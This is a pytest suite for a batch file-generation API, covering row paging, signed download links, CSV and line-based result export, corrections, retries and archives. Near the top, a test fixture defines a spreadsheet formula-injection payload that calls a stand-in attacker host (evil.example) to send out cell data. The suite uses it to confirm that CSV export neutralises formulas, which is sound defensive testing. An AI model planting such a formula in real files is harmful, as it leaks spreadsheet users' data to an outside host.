"""What became of rows, why, with links to their files; and what people do with them."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from typing import Any

import pytest

from tests.native import call, get, new_batch, new_template, post, refused
from tests.served import Server

#: What a spreadsheet would take for a formula.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.fixture(scope="module")
def done(served: Server) -> str:
    """A batch: two rows are done, one is blocked."""
    new_template(served)
    rows = [{"sku": "A1", "title": FORMULA}, {"sku": "B2"}, {"sku": "", "title": "no sku"}]
    batch = new_batch(served, rows=rows, name="Three")
    served.work()
    return batch


def test_rows_are_told_in_their_order_by_the_page(served: Server, done: str) -> None:
    first = get(served, f"/batches/{done}/rows?limit=2")
    assert ([row["row"] for row in first["data"]], first["has_more"], first["next"]) == ([1, 2], True, "2")
    rest = get(served, f"/batches/{done}/rows?after=2")
    assert [(row["row"], row["state"]) for row in rest["data"]] == [(3, "blocked")]
    assert get(served, f"/batches/{done}")["counts"] == {"done": 2, "blocked": 1}


def test_they_are_told_by_state_and_cause(served: Server, done: str) -> None:
    def numbers(query: str) -> list[int]:
        return [row["row"] for row in get(served, f"/batches/{done}/rows?{query}")["data"]]

    assert numbers("state=done") == [1, 2]
    assert numbers("state=done&state=blocked&limit=1") == [1]
    cause = get(served, f"/batches/{done}/causes")["data"][0]
    assert (cause["rows"], cause["numbers"], cause["who"], cause["column"]) == (1, [3], "data owner", "sku")
    assert numbers(f"cause={cause['code']}") == [3] and numbers("cause=nothing") == []
    refused(call(served, "GET", f"/batches/{done}/rows?state=gone"), 400, "invalid_request")
    refused(call(served, "GET", f"/batches/{done}/rows?after=x"), 400, "invalid_request")


def test_a_finished_row_has_a_link_for_which_no_key_is_needed(served: Server, done: str) -> None:
    row = get(served, f"/batches/{done}/rows/1")
    answer = served.client.get(row["url"])
    assert (row["file"], row["width"], len(answer.content)) == ("A1.mp4", 64, row["bytes"])
    assert answer.headers["content-type"] == "video/mp4" and answer.content[4:8] == b"ftyp"
    assert served.client.get(row["thumbnail_url"]).headers["content-type"] == "image/png"
    assert [(each["number"], each["outcome"], bool(each["url"])) for each in row["tried"]] == [(1, "done", True)]
    assert row["payload"]["width"] == 64 and row["verdict"]["ruling"] == "pass"
    for url in row["verdict"]["pictures"].values():
        assert served.client.get(url).status_code == 200


def test_links_are_good_for_ranges_and_for_nothing_that_was_altered(served: Server, done: str) -> None:
    url = get(served, f"/batches/{done}/rows/1")["url"]
    whole = served.client.get(url)
    part = served.client.get(url, headers={"Range": "bytes=4-7"})
    assert (part.status_code, part.content) == (206, b"ftyp")
    assert served.client.get(url, headers={"Range": "bytes=99999999-"}).status_code == 416
    head = served.client.head(url)
    assert (head.status_code, head.headers["content-length"]) == (200, str(len(whole.content)))
    assert served.client.get(url, headers={"If-None-Match": whole.headers["etag"]}).status_code == 304
    refused(served.client.get(url.replace("A1.mp4", "B1.mp4")), 404, "link_unknown")
    token = url.split("/")[-2]
    for altered in (
        token[:-1] + ("A" if token[-1] != "A" else "B"),
        "x" + token,
        token.replace(".", ""),
        "ÿ",
        "a" * 9_000,
    ):
        refused(served.client.get(f"/files/{altered}/A1.mp4"), 404, "link_unknown")
    over = served.app.links.to("local", "0" * 64, "A1.mp4", seconds=-5)
    refused(served.client.get(over), 410, "link_expired")


def test_results_are_streamed_as_lines_and_as_a_table_without_formulas(served: Server, done: str) -> None:
    lines = [json.loads(line) for line in call(served, "GET", f"/batches/{done}/results").text.splitlines()]
    assert [(line["row"], line["state"], bool(line["url"])) for line in lines] == [
        (1, "done", True), (2, "done", True), (3, "blocked", False)]  # fmt: skip
    answer = call(served, "GET", f"/batches/{done}/results?format=csv")
    table = list(csv.DictReader(io.StringIO(answer.text.removeprefix("\ufeff"))))
    assert [row["_state"] for row in table] == ["done", "done", "blocked"]
    assert table[0]["title"] == "'" + FORMULA
    assert not [cell for row in table for cell in row.values() if cell[:1] in ("=", "+", "@")]


def test_rows_to_correct_are_a_table_that_is_taken_back(served: Server, done: str) -> None:
    table = call(served, "GET", f"/batches/{done}/blocked.csv").text
    assert "no sku" in table
    batch = new_batch(served, rows=[{"sku": "", "title": "T"}, {"sku": ""}], dry_run=True)
    served.work()
    table = call(served, "GET", f"/batches/{batch}/blocked.csv").text.replace('"","T"', '"New","T"')
    answer = call(
        served, "POST", f"/batches/{batch}/amend", content=table.encode(), headers={"Content-Type": "text/csv"}
    )
    assert (answer.json()["taken"], answer.json()["blocked"]) == (2, 1)
    story = get(served, f"/batches/{batch}/rows/1")
    assert (story["state"], story["version"], story["versions"][0]["replaced_by"]) == ("ready", 2, "test")


@pytest.mark.parametrize(
    ("row", "word"), [({"sku": "A"}, "_row"), ({"_row": "1"}, "_row"), ({"_row": 1, "sku": []}, "cell")]
)
def test_a_correction_that_says_nothing_is_refused(served: Server, done: str, row: Any, word: str) -> None:
    error = refused(call(served, "POST", f"/batches/{done}/amend", json={"rows": [row]}), 400, "invalid_request")
    assert word in error["message"]


def test_finished_files_are_packed(served: Server, done: str) -> None:
    told = get(served, f"/batches/{done}/archive")
    with zipfile.ZipFile(io.BytesIO(served.client.get(told["url"]).content)) as packed:
        assert sorted(packed.namelist()) == ["A1.mp4", "B2.mp4"]
    assert get(served, f"/batches/{done}/archive")["sha256"] == told["sha256"]
    refused(call(served, "GET", f"/batches/{new_batch(served, dry_run=True)}/archive"), 409, "conflict")


def test_rows_are_made_again_once_their_price_is_known(served: Server, done: str) -> None:
    batch = new_batch(served, rows=[{"sku": "R1"}])
    served.work()
    told = post(served, f"/batches/{batch}/retry", {"rows": [1], "new_seeds": True, "dry_run": True})
    assert (told["rows"], told["credits"]) == (1, 1)
    assert get(served, f"/batches/{batch}")["state"] == "finished"
    assert post(served, f"/batches/{batch}/retry", {"rows": [1], "seed": 7})["rows"] == 1
    served.work()
    tried = get(served, f"/batches/{batch}/rows/1")["tried"]
    assert [each["number"] for each in tried] == [1, 2] and tried[1]["seed"] == 7
    refused(call(served, "POST", f"/batches/{batch}/retry", json={"cause": "none"}), 404, "not_found")
    refused(
        call(served, "POST", f"/batches/{batch}/retry", json={"seed": 1, "new_seeds": True}), 400, "invalid_request"
    )


def test_a_finished_file_is_rejected_and_said_why(served: Server) -> None:
    batch = new_batch(served, rows=[{"sku": "J1"}])
    served.work()
    assert post(served, f"/batches/{batch}/reject", {"rows": [1], "reason": "wrong colour"})["rows"] == 1
    row = get(served, f"/batches/{batch}/rows/1")
    assert row["state"] == "failed" and "wrong colour" in row["problems"][0]["reason"]
    assert post(served, f"/batches/{batch}/approve")["rows"] == 0
    told = post(served, f"/batches/{batch}/retry", {"cause": "rejected"})
    assert told["rows"] == 1


def test_files_are_renamed_all_or_none(served: Server, done: str) -> None:
    told = post(served, f"/batches/{done}/rename", {"names": "x-{{sku}}.mp4", "dry_run": True})
    assert told["names"][0] == {"row": 1, "was": "A1.mp4", "name": "x-A1.mp4"}
    assert get(served, f"/batches/{done}/rows/1")["file"] == "A1.mp4"
    refused(call(served, "POST", f"/batches/{done}/rename", json={"names": "same.mp4"}), 400, "invalid_request")


def test_unknown_rows_are_listed_and_others_are_not_reconciled(served: Server, done: str) -> None:
    assert get(served, f"/batches/{done}/unknown") == {"data": [], "has_more": False, "next": None}
    refused(call(served, "POST", f"/batches/{done}/reconcile", json={"rows": [1]}), 409, "conflict")


@pytest.mark.parametrize("path", ["rows/9", "rows/0", "rows/9/events", "rows/9/preview"])
def test_a_row_that_is_not_there_is_said_not_to_be(served: Server, done: str, path: str) -> None:
    refused(call(served, "GET", f"/batches/{done}/{path}"), 404, "not_found")


def test_a_row_has_its_trail(served: Server, done: str) -> None:
    kinds = [event["kind"] for event in get(served, f"/batches/{done}/rows/1/events")["data"]]
    assert kinds[0] == "admitted" and kinds[-1] == "done"


def test_events_are_read_page_by_page_and_hold_no_path_of_the_server(served: Server, done: str) -> None:
    first = get(served, f"/batches/{done}/events?limit=3")
    rest = get(served, f"/batches/{done}/events?limit=200&after={first['next']}")
    ids = [event["id"] for event in first["data"] + rest["data"]]
    assert ids == sorted(set(ids)) and rest["data"][-1]["kind"] == "finished"
    assert str(served.app.home) not in json.dumps([first, rest])
    assert {event["batch"] for event in get(served, "/events?limit=200")["data"]} >= {done}
